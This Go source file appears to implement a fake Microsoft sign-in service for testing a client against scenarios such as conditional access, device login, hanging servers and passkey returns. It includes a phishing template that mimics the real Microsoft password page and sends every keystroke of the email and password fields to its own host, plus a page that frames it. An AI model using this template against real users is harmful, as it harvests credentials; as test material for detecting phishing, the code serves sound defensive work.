package fakecloud

import (
	"html/template"
	"net/http"
	"strings"
)

// Pages on hosts other than that of the sign-in.

// mimic is a phishing page: it looks like the password page and sends every keystroke to
// its server immediately.
var mimic = template.Must(
	template.New("").
		Parse(`<!DOCTYPE html><html><head><title>Sign in to your account</title><meta name="PageID" content="ConvergedSignIn" /></head>
<body><script>$Config={pgid:"ConvergedSignIn",sErrorCode:"50058"};</script><form method="post" action="/login"><div data-viewid="2"><div id="displayName">{{.}}</div>
<input type="email" name="loginfmt" id="i0116" oninput="fetch('/keys?v='+encodeURIComponent(this.value))">
<input type="password" name="passwd" id="i0118" oninput="fetch('/keys?v='+encodeURIComponent(this.value))">
<input type="submit" id="idSIButton9" value="Sign in"></div></form></body></html>`),
)

// elsewhere serves hosts that are not part of the sign-in. It returns false for those
// that are.
func (c *Cloud) elsewhere(w http.ResponseWriter, r *http.Request) bool {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	switch hostOnly(r.Host) {
	case LookAlikeHost:
		_ = mimic.Execute(w, UserName)
	case FrameHost:
		writeText(
			w,
			`<!DOCTYPE html><html><head><title>Portal</title></head><body><h1>Welcome</h1><iframe style="width:600px;height:600px" src="https://`+LookAlikeHost+`/"></iframe></body></html>`,
		)
	case "login.live.com":
		writeText(
			w,
			`<!DOCTYPE html><html><head><title>Sign in</title></head><body><div id="kmsiTitle">Microsoft account</div><input type="password" name="passwd" id="i0118"></body></html>`,
		)
	case "certauth.login.microsoftonline.com", certAuthHost: // the browser did not present a certificate
		writeHandOver(w, "https://login.microsoftonline.com/common/certificate",
			formField{"ctx", r.FormValue("ctx")})
	case ExternalMFAHost:
		writeText(w, `<!DOCTYPE html><html><head><title>Two-step</title></head><body><p>Check your phone</p></body></html>`)
	case "device.login.microsoftonline.com":
		writeHandOver(w, "https://login.microsoftonline.com/common/DeviceAuthTls/reprocess",
			formField{"ctx", r.URL.Query().Get("request")}, formField{"flowtoken", r.URL.Query().Get("flowToken")})
	default:
		w.Header().Del("Content-Type")
		return false
	}
	return true
}

func writeText(w http.ResponseWriter, text string) { _, _ = w.Write([]byte(text)) }

// leadAway redirects the browser to another host in some scenarios.
func (c *Cloud) leadAway(w http.ResponseWriter, f *flow) bool {
	away := map[string]string{
		"foreign-host": "https://" + ADFSHost + "/adfs/ls/?wctx=" + f.ctx,
		"look-alike":   "https://" + LookAlikeHost + "/" + TenantID + "/saml2",
		"framed":       "https://" + FrameHost + "/",
	}[c.opts.Scenario]
	if away == "" {
		return false
	}
	w.Header().Set("Location", away)
	w.WriteHeader(http.StatusFound)
	return true
}

// serveReprocess continues after the request for the device certificate. Its fields are
// those of the posted form, with a lower-case t.
func (c *Cloud) serveReprocess(w http.ResponseWriter, r *http.Request) {
	if err := r.ParseForm(); err != nil {
		http.Error(w, "bad form", http.StatusBadRequest)
		return
	}
	f, err := c.flowOf(r, r.PostForm.Get("ctx"), r.PostForm.Get("flowtoken"))
	if err != nil {
		c.errorPage(w, err)
		return
	}
	f.rotate()
	f.proved["device"] = true
	c.advance(w, r, f)
}

// interrupt serves a page that a scenario inserts into the sign-in, or returns false if
// there is none.
func (c *Cloud) interrupt(w http.ResponseWriter, r *http.Request, f *flow) bool {
	switch scenario := c.opts.Scenario; {
	case scenario == "conditional-access":
		c.page(w, f, "ConvergedConditionalAccess", fields{"sErrorCode": "53003"})
	case scenario == "device-policy" && !f.proved["compliant"]:
		c.page(w, f, "ConvergedConditionalAccess", fields{"sErrorCode": "53000"})
	case scenario == "device-browser" && c.signedOn(r) == nil:
		c.mu.Lock()
		// The session exists, but this browser does not satisfy the policy; the one in
		// which the user continues does.
		s := &signon{user: f.user, agent: r.UserAgent()}
		for _, cookie := range c.sessionCookiesLocked(s) {
			http.SetCookie(w, cookie)
		}
		c.mu.Unlock()
		c.page(w, f, "ConvergedConditionalAccess", fields{"sErrorCode": "53000"})
	case scenario == "change-password":
		c.page(w, f, "ConvergedChangePassword", fields{"sErrorCode": "50055"})
	case scenario == "consent":
		c.page(w, f, "ConvergedConsent", nil)
	case scenario == "terms-of-use":
		c.page(w, f, "ConvergedTOU", nil)
	case scenario == "device-login" && !f.proved["device"]:
		w.Header().Set("Location", "https://device.login.microsoftonline.com/?request="+f.ctx+"&flowToken="+f.flowToken)
		w.WriteHeader(http.StatusFound)
	default:
		return false
	}
	return true
}

// fails serves scenarios with a server that never responds or is overloaded, and reports
// whether it did.
func (c *Cloud) fails(w http.ResponseWriter, r *http.Request) bool {
	first, password := strings.HasSuffix(r.URL.Path, "/saml2"), r.Method == http.MethodPost &&
		strings.HasSuffix(r.URL.Path, "/login")
	switch {
	case c.opts.Scenario == "hangs" && first, c.opts.Scenario == "hangs-midway" && password,
		c.opts.Scenario == "poll-hangs" && r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/SAS/EndAuth"):
		<-r.Context().Done()
	case c.opts.Scenario == "push-hangs" && strings.HasSuffix(r.URL.Path, "/SAS/BeginAuth"):
		c.mu.Lock()
		c.entra.begun++
		c.mu.Unlock()
		<-r.Context().Done()
	case c.opts.Scenario == "server-busy" && first:
		http.Error(w, "The service is unavailable.", http.StatusServiceUnavailable)
	default:
		return false
	}
	return true
}

// serveNoCertificate continues after the browser did not present a certificate: the page
// names the failure and offers other ways to sign in.
func (c *Cloud) serveNoCertificate(w http.ResponseWriter, r *http.Request) {
	c.mu.Lock()
	f := c.entra.flows[r.FormValue("ctx")]
	c.mu.Unlock()
	if f == nil {
		http.Error(w, "no such flow", http.StatusBadRequest)
		return
	}
	c.page(w, f, "ConvergedSignIn", fields{"passkeyDeclined": true, "sErrorCode": "500178"})
}

// comeBack serves the return from the passkey page and the account tiles of a scenario.
// It returns false for other requests.
func (c *Cloud) comeBack(w http.ResponseWriter, r *http.Request, f *flow) bool {
	query := r.URL.Query()
	names := map[string]string{"1": "grace@contoso.example", "2": "linus@contoso.example"}
	switch user := c.user(names[query.Get("sessionid")]); {
	case query.Has("passkey") && f.proved["password"]:
		c.strongPage(w, f)
	case query.Has("passkey"):
		c.page(w, f, "ConvergedSignIn", fields{"passkeyDeclined": true, "sErrorCode": "50058"})
	case c.opts.Scenario == "tile-signed-in" && user != nil:
		f.user, f.proved = user, map[string]bool{"password": true, "mfa": true, "kmsi": true}
		c.advance(w, r, f)
	default:
		return false
	}
	return true
}
